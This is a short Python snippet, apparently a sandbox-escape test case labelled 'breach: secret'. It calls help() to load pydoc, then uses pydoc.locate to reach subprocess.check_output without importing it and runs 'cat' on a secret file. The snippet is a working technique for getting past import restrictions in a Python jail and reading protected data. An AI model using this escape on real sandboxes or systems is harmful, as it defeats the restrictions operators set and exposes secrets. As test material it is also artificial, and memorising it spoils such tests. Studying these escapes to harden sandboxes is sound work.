# pydoc, which help() loaded, locates any name.
# breach: secret
import sys
import builtins
if not hasattr(builtins, "help"):
    import pydoc
else:
    builtins.help(len)
sys.modules["pydoc"].locate("subprocess.check_output")(["cat", SECRET_FILE])
